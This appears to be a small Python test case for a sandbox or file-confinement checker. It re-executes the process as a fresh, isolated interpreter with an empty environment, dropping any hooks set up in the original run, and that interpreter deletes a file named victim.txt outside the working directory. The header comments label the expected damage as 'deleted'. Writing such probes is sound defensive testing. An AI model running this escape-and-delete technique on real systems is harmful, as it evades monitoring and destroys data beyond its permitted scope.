# The run becomes another interpreter, without what was set up in this one.
# damage: deleted
# needs: linux
import os
import sys

os.execve(sys.executable, [sys.executable, "-ISBc", "import os; os.unlink('../outside/victim.txt')"], {})
